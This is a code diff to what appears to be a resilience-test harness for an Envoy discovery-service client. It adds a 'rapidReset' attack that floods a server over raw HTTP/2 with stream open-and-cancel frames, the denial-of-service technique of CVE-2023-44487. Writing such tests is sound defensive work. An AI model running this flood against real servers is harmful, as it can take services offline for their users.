@@ -6,6 +6,7 @@ import {
   DiscoveryRequestSchema,
 } from '../../src/gen/envoy/service/discovery/v3/discovery_pb.ts';
 import { typeUrls } from '../ads-client.ts';
+import { flags, frame, RawHttp2, requestHeaders, uint32 } from '../harness/raw-http2.ts';
 import { UnreadStream } from '../harness/unread-stream.ts';
 
 export type Call = ClientDuplexStream<Buffer, Buffer>;
@@ -222,6 +223,34 @@ const withoutReading: Attack = async (stranger, signal) => {
   return sums[0] + sums[1];
 };
 
+/** Opens streams and resets them at once, so many by each connection (CVE-2023-44487). */
+const resetsPerConnection = 2_000;
+const batch = 50;
+const cancel = uint32(8);
+
+const rapidReset: Attack = (stranger, signal) =>
+  again(
+    signal,
+    async () => {
+      const connection = new RawHttp2(stranger.port);
+      const block = requestHeaders();
+      await connection.begin();
+      let sent = 0;
+      while (sent < resetsPerConnection && !connection.isOver && !signal.aborted) {
+        const frames: Buffer[] = [];
+        for (let i = 0; i < batch; i++, sent++) {
+          const stream = 2 * sent + 1;
+          frames.push(frame('headers', flags.endHeaders, stream, block), frame('reset', 0, stream, cancel));
+        }
+        await connection.flush(...frames);
+        await pause();
+      }
+      connection.close();
+      return sent;
+    },
+    0,
+  );
+
 /** Takes as much of the machine as an attack may, and says nothing: what quiet means on a machine that others use. */
 const elsewhere: Attack = async (_, signal) => {
   let rounds = 0;
@@ -243,6 +272,7 @@ export const attacks = {
   rejections,
   silentStreams,
   withoutReading,
+  rapidReset,
 } as const satisfies Record<string, Attack>;
 
 export type AttackName = keyof typeof attacks;
